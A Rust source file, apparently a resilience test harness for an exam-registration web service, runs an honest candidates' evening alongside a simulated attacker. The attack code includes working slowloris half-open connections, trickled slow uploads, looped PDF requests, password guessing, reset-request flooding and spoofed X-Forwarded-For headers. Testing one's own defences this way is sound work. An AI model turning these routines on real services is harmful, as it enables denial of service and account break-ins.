//! The evening side by side, without and with a patient attacker: the honest
//! candidates' part and the attack.

use std::{
    collections::BTreeMap,
    sync::Arc,
    time::{Duration, Instant},
};

use serde_json::{Value, json};

use crate::harness::{Bases, EXAM, KIB, Samples, Upload, jpeg, login, pages, pdf, run_all, upload};

/// The honest part of the evening for `numbers`: each logs in, sends two files (one at
/// a time, as a phone does), and opens the dossier page three times.
pub(crate) struct Evening {
    pub(crate) login: Samples,
    pub(crate) upload: Samples,
    pub(crate) page: Samples,
}

impl Evening {
    pub(crate) fn errors(&self) -> usize {
        self.login.errors + self.upload.errors + self.page.errors
    }

    pub(crate) fn summary(&self) -> Value {
        json!({
            "login": self.login.summary(),
            "upload": self.upload.summary(),
            "dossier_page": self.page.summary(),
        })
    }
}

pub(crate) async fn evening(
    client: &reqwest::Client,
    bases: &Bases,
    numbers: &[String],
    concurrency: usize,
) -> Evening {
    let samples = Arc::new(tokio::sync::Mutex::new((
        Samples::default(),
        Samples::default(),
        Samples::default(),
    )));
    run_all(
        numbers.iter().cloned().enumerate().collect(),
        concurrency,
        |(i, number)| {
            let (client, bases, samples) = (client.clone(), bases.clone(), samples.clone());
            async move {
                // The candidate's requests, one after the other, round the servers.
                let mut next = i;
                let mut base = || {
                    next += 1;
                    bases.at(next - 1).to_string()
                };
                let t = Instant::now();
                let cookie = login(&client, &base(), &number).await;
                samples.lock().await.0.push(t, cookie.is_ok());
                let Ok(cookie) = cookie else { return };
                let files = [
                    Upload {
                        piece: "piece-identite",
                        name: "recto.jpg".into(),
                        mime: "image/jpeg",
                        body: jpeg(300 * KIB),
                    },
                    Upload {
                        piece: "diplome",
                        name: "diplome.pdf".into(),
                        mime: "application/pdf",
                        body: pdf(600 * KIB),
                    },
                ];
                for u in &files {
                    let here = base();
                    let url = format!("{here}/espace/pieces/{}/fichiers", u.piece);
                    let t = Instant::now();
                    let ok = upload(&client, &url, &here, &cookie, u)
                        .await
                        .unwrap_or(false);
                    samples.lock().await.1.push(t, ok);
                }
                let page = pages(&client, &bases, &cookie, 3).await;
                let mut s = samples.lock().await;
                s.2.ms.extend(page.ms);
                s.2.errors += page.errors;
            }
        },
    )
    .await;
    let (login, upload, page) = std::mem::take(&mut *samples.lock().await);
    Evening {
        login,
        upload,
        page,
    }
}

/// The form of the attacker's `i`-th post of one kind, given the honest numbers.
type FormOf = fn(usize, &[String]) -> Vec<(String, String)>;

/// Each of the attacker's six posting loops sends one post per period.
const ATTACK_PERIOD: Duration = Duration::from_millis(20);

/// The attacker's addresses, as the trusted proxy (loopback) forwards them: its posts
/// come from the first.
const ATTACKERS: [&str; 4] = [
    "203.0.113.66",
    "203.0.113.67",
    "203.0.113.68",
    "203.0.113.69",
];
const ATTACKER: &str = ATTACKERS[0];
/// The attacker's dossiers: twelve that trickle uploads, one that asks for its PDF.
pub(crate) const ATTACKER_DOSSIERS: usize = 13;
/// Connections that send half a request head and wait, reopened when closed.
const HALF_OPEN: usize = 200;
/// Connections asking for one dossier's PDF again and again.
const PDF_LOOPS: usize = 24;

/// A patient client attacking the evening from four addresses, until stopped: 24
/// uploads kept just above the slow-body floor from twelve dossiers of its own
/// (reopened when cut), 200 connections holding half a request head, a dossier's PDF
/// asked for from 24 connections in a loop, password guesses on the honest
/// candidates' numbers, « mot de passe oublié » for made-up dossiers, and new drafts.
pub(crate) struct Attack {
    stop: Arc<std::sync::atomic::AtomicBool>,
    tasks: Vec<tokio::task::JoinHandle<BTreeMap<String, usize>>>,
}

impl Attack {
    pub(crate) async fn start(
        client: &reqwest::Client,
        bases: &Bases,
        own: &[String],
        targets: &[String],
    ) -> anyhow::Result<Self> {
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let mut tasks = Vec::new();
        let (trickling, pdf_dossier) = own.split_at(ATTACKER_DOSSIERS - 1);
        for (i, number) in trickling.iter().enumerate() {
            let cookie = login(client, bases.at(i), number).await?;
            for k in 0..2 {
                let base = bases.at(2 * i + k).to_string();
                let (cookie, stop) = (cookie.clone(), stop.clone());
                let from = ATTACKERS[i % ATTACKERS.len()];
                tasks.push(tokio::spawn(trickle(base, cookie, from, stop)));
            }
        }
        let cookie = login(client, bases.at(0), &pdf_dossier[0]).await?;
        for i in 0..PDF_LOOPS {
            let (client, base, cookie, stop) = (
                client.clone(),
                bases.at(i).to_string(),
                cookie.clone(),
                stop.clone(),
            );
            tasks.push(tokio::spawn(async move {
                let mut seen = BTreeMap::new();
                while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                    let r = client
                        .get(format!("{base}/espace/dossier-d-inscription.pdf"))
                        .header("cookie", &cookie)
                        .header("x-forwarded-for", ATTACKERS[1])
                        .send()
                        .await;
                    let key = match r {
                        Ok(r) => {
                            let status = r.status().as_u16();
                            let _ = r.bytes().await;
                            format!("pdf loop {status}")
                        }
                        Err(_) => "pdf loop error".into(),
                    };
                    *seen.entry(key).or_insert(0) += 1;
                }
                seen
            }));
        }
        for i in 0..HALF_OPEN {
            let (base, stop) = (bases.at(i).to_string(), stop.clone());
            tasks.push(tokio::spawn(half_open(base, stop)));
        }
        let posts: [(&str, FormOf); 3] = [
            ("/api/espace/connexion", |i, targets| {
                vec![
                    ("numero".into(), targets[i % targets.len()].clone()),
                    ("mot_de_passe".into(), format!("devine {i}")),
                ]
            }),
            ("/api/espace/mot-de-passe-oublie", |i, _| {
                vec![
                    ("numero".into(), format!("26-ZZZZ-{:04}", i % 10_000)),
                    ("email".into(), format!("cible{i}@exemple.fr")),
                ]
            }),
            ("/api/inscription/etape", |i, _| {
                vec![
                    ("exam".into(), EXAM.into()),
                    ("step".into(), "identite".into()),
                    ("direction".into(), "next".into()),
                    ("fields[nom_naissance]".into(), format!("Robot{i}")),
                ]
            }),
        ];
        for (path, body) in posts {
            for _ in 0..2 {
                let (client, bases, stop) = (client.clone(), bases.clone(), stop.clone());
                let targets = targets.to_vec();
                tasks.push(tokio::spawn(async move {
                    let mut seen = BTreeMap::new();
                    let mut i = 0;
                    // 50 posts a second per loop, 300 in all: far past what one client
                    // may send (30), without the driver's own loop eating the two cores
                    // the server runs on.
                    let mut pace = tokio::time::interval(ATTACK_PERIOD);
                    while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                        pace.tick().await;
                        let origin = bases.at(i);
                        let r = client
                            .post(format!("{origin}{path}"))
                            .header("origin", origin)
                            .header("accept", "text/html")
                            .header("x-forwarded-for", ATTACKER)
                            .form(&body(i, &targets))
                            .send()
                            .await;
                        let key = match r {
                            Ok(r) => format!("{path} {}", r.status().as_u16()),
                            Err(_) => format!("{path} error"),
                        };
                        *seen.entry(key).or_insert(0) += 1;
                        i += 1;
                    }
                    seen
                }));
            }
        }
        Ok(Self { stop, tasks })
    }

    /// Stops the attack; how many requests of each kind got which answer.
    pub(crate) async fn stop(self) -> BTreeMap<String, usize> {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        let mut all = BTreeMap::new();
        for task in self.tasks {
            for (k, v) in task.await.unwrap_or_default() {
                *all.entry(k).or_insert(0) += v;
            }
        }
        all
    }
}

/// An upload from `from` that announces 5 MB and sends 700 bytes every half second
/// (1.4 Ko/s, just above the slow-body floor); when the server cuts it (or refuses
/// it), another starts.
async fn trickle(
    base: String,
    cookie: String,
    from: &'static str,
    stop: Arc<std::sync::atomic::AtomicBool>,
) -> BTreeMap<String, usize> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let address = base.trim_start_matches("http://").to_string();
    let mut seen = BTreeMap::new();
    while !stop.load(std::sync::atomic::Ordering::SeqCst) {
        let Ok(mut stream) = tokio::net::TcpStream::connect(&address).await else {
            break;
        };
        let head = "--x\r\nContent-Disposition: form-data; name=\"fichier\"; filename=\"lent.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n";
        let request = format!(
            "POST /espace/pieces/diplome/fichiers HTTP/1.1\r\nHost: {address}\r\nCookie: {cookie}\r\nOrigin: {base}\r\nAccept: application/json\r\nX-Forwarded-For: {from}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 5000000\r\n\r\n{head}"
        );
        if stream.write_all(request.as_bytes()).await.is_err() {
            continue;
        }
        let mut answer = [0u8; 64];
        let status = loop {
            if stop.load(std::sync::atomic::Ordering::SeqCst) {
                break "stopped".to_string();
            }
            if stream.write_all(&[b' '; 700]).await.is_err() {
                break "cut".to_string();
            }
            match tokio::time::timeout(Duration::from_millis(500), stream.read(&mut answer)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break "cut".to_string(),
                Ok(Ok(n)) => {
                    break String::from_utf8_lossy(&answer[..n])
                        .split_whitespace()
                        .nth(1)
                        .unwrap_or("?")
                        .to_string();
                }
                Err(_) => {}
            }
        };
        *seen.entry(format!("slow upload {status}")).or_insert(0) += 1;
    }
    seen
}

/// A connection that sends half a request head and waits; when the server closes it,
/// another opens.
async fn half_open(
    base: String,
    stop: Arc<std::sync::atomic::AtomicBool>,
) -> BTreeMap<String, usize> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let address = base.trim_start_matches("http://").to_string();
    let mut seen = BTreeMap::new();
    while !stop.load(std::sync::atomic::Ordering::SeqCst) {
        let Ok(mut stream) = tokio::net::TcpStream::connect(&address).await else {
            *seen.entry("half-open refused".to_string()).or_insert(0) += 1;
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        let _ = stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n").await;
        let mut answer = [0u8; 64];
        let closed = loop {
            if stop.load(std::sync::atomic::Ordering::SeqCst) {
                break false;
            }
            let read = stream.read(&mut answer);
            if tokio::time::timeout(Duration::from_millis(500), read)
                .await
                .is_ok()
            {
                break true;
            }
        };
        if closed {
            *seen.entry("half-open closed".to_string()).or_insert(0) += 1;
        }
    }
    seen
}
